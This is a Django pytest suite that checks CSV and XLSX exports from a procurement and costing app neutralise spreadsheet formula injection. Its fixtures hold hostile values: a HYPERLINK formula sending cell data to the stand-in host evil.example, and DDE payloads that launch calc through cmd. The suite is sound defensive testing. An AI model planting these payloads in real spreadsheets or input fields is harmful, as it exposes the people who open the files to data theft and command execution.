"""Formula injection: every CSV and XLSX export, with hostile names everywhere people type them.

A name such as ``=HYPERLINK("http://evil.example/?"&A1,"x")`` must reach a spreadsheet as text:
in a CSV it is prefixed with a single quote; in an XLSX it is a text cell (never a formula).
Numbers stay numbers: a negative amount is not quoted.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from interlocal.procurement.actions import do_submit_bid
from interlocal.procurement.models import SolicitationItem
from interlocal.taxonomy.models import ServiceArea
from interlocal.tenancy.models import Consortium, Member
from tests.api.helpers import make_token
from tests.assessment.test_workbook_import import make_campaign
from tests.clock import Clock
from tests.costing.factories import small_model
from tests.procurement.factories import OPENING, make_joint_purchase, make_vendor

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
OTHERS = ["+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def _body(data: Any) -> bytes:
    if isinstance(data, bytes):
        return data
    return b"".join(data.streaming_content) if data.streaming else data.content


def assert_inert_csv(data: Any, *, expect: str = "evil.example") -> None:
    """No cell starts like a formula (plain numbers aside), and the hostile text is there, quoted."""
    rows = list(csv.reader(io.StringIO(_body(data).decode("utf-8-sig"))))
    seen = False
    for r, row in enumerate(rows, start=1):
        for c, cell in enumerate(row, start=1):
            seen = seen or expect in cell
            if cell.startswith(DANGER) and not _is_number(cell):
                raise AssertionError(f"live formula at row {r}, column {c}: {cell!r}")
    assert seen, "the hostile name does not appear in the export: the test proves nothing"


def assert_inert_xlsx(data: bytes, *, expect: str = "evil.example") -> None:
    """No formula cell holds people's text; hostile-looking text cells are text (quote prefix)."""
    book = load_workbook(io.BytesIO(data))
    seen = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str):
                    seen = seen or expect in value
                    if cell.data_type == "f" and (expect in value or "HYPERLINK" in value or "cmd|" in value):
                        raise AssertionError(f"live formula in {sheet.title}!{cell.coordinate}: {value!r}")
                    if value.startswith(DANGER) and cell.data_type != "f":
                        assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}"
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} lacks the quote prefix"
    assert seen, "the hostile name does not appear in the export: the test proves nothing"


@pytest.fixture
def hostile(world: Any) -> Any:
    """Capitol Region, its members and its service areas renamed to formulas."""
    Consortium.objects.filter(pk=world.capitol.pk).update(name=HOSTILE)
    Member.objects.filter(pk=world.avon.pk).update(name=HOSTILE)
    for member, text in zip((world.bolton, world.canton), OTHERS, strict=False):
        Member.objects.filter(pk=member.pk).update(name=text)
    return world


def test_member_renamed_by_the_api_stays_text_in_costing_exports(
    hostile: Any, client_for: Any, client: Any
) -> None:
    _model, scenario = small_model(hostile)
    type(scenario).objects.filter(pk=scenario.pk).update(rule="equal")
    sam = client_for("sam")
    rates = sam.get(reverse("costing:scenario_rates", args=[scenario.pk]), {"format": "csv"})
    assert rates.status_code == 200
    assert_inert_csv(rates)
    assert_inert_xlsx(sam.get(reverse("costing:scenario_xlsx", args=[scenario.pk])).content)
    template = reverse("costing:scenario_template", args=[scenario.pk])
    assert_inert_csv(sam.get(template, {"format": "csv"}).content)
    assert_inert_xlsx(sam.get(template, {"format": "xlsx"}).content)


def test_negative_numbers_stay_numbers() -> None:
    from interlocal.lib.spreadsheets import csv_text, neutralise

    assert neutralise(-5) == -5
    assert neutralise(Decimal("-1.50")) == Decimal("-1.50")
    assert neutralise("-12.50") == "-12.50"
    assert neutralise("-1+2") == "'-1+2"
    line = csv_text([["@x", -3, "-4", None]])
    assert line == "'@x,-3,-4,\r\n"


def test_tabulation_csv_with_a_hostile_vendor_and_item(
    world: Any, client_for: Any, monkeypatch: Any, django_user_model: Any
) -> None:
    clock = Clock(monkeypatch)
    jp = make_joint_purchase(world)
    SolicitationItem.objects.filter(pk=jp.items[0].pk).update(description=OTHERS[0])
    vendor = make_vendor("Acme", world.vince, world.capitol)
    type(vendor).objects.filter(pk=vendor.pk).update(name=HOSTILE)
    do_submit_bid(
        jp.solicitation,
        acting_user=world.vince,
        idempotency_key="k",
        prices={jp.items[0].pk: "61.50", jp.items[1].pk: "0.30"},
    )
    clock.set(OPENING)
    client_for("alice").post(
        reverse("procurement:bids_open", args=[jp.solicitation.pk]), {"witness": world.sam.pk}
    )  # two people open the bids
    response = client_for("bob").get(
        reverse("procurement:tabulation", args=[jp.solicitation.pk]) + "?format=csv"
    )
    assert response.status_code == 200
    assert_inert_csv(response.content)
    assert b"61.50" in response.content  # prices stay plain numbers


def test_assessment_response_workbook_and_aggregates(hostile: Any, client_for: Any) -> None:
    ServiceArea.objects.update(name=HOSTILE)
    campaign = make_campaign(hostile)
    avon = campaign.responses.get(member=hostile.avon)
    workbook = client_for("bob").get(reverse("assessment:workbook_download", kwargs={"pk": avon.pk}))
    assert workbook.status_code == 200
    assert_inert_xlsx(workbook.content)


def test_table_and_audit_csv_exports(hostile: Any, client_for: Any) -> None:
    alice = client_for("alice")
    members = alice.get(reverse("tenancy:members"), {"format": "csv"})
    assert members.status_code == 200
    assert_inert_csv(members)
    # An audited change through the API puts the hostile name into the audit trail's export.
    api = Client(headers={"Authorization": f"Bearer {make_token(hostile.ada)}"})
    renamed = api.patch(
        f"/api/v1/members/{hostile.avon.pk}", {"name": OTHERS[0] + HOSTILE}, content_type="application/json"
    )
    assert renamed.status_code == 200
    audit = alice.get(reverse("audit:event_export"), {"format": "csv"})
    assert audit.status_code == 200
    assert_inert_csv(audit)


def test_a_member_renamed_through_the_api_is_text_in_every_workbook(world: Any, client_for: Any) -> None:
    api = Client(headers={"Authorization": f"Bearer {make_token(world.ada)}"})  # Avon's member admin
    renamed = api.patch(
        f"/api/v1/members/{world.avon.pk}", {"name": HOSTILE}, content_type="application/json"
    )
    assert renamed.status_code == 200, renamed.content
    assert Member.objects.get(pk=world.avon.pk).name == HOSTILE
    _model, scenario = small_model(world)
    sam = client_for("sam")
    assert_inert_xlsx(sam.get(reverse("costing:scenario_xlsx", args=[scenario.pk])).content)
    template = sam.get(reverse("costing:scenario_template", args=[scenario.pk]), {"format": "xlsx"})
    assert_inert_xlsx(template.content)
    avon = make_campaign(world).responses.get(member=world.avon)
    assert_inert_xlsx(
        client_for("bob").get(reverse("assessment:workbook_download", kwargs={"pk": avon.pk})).content
    )
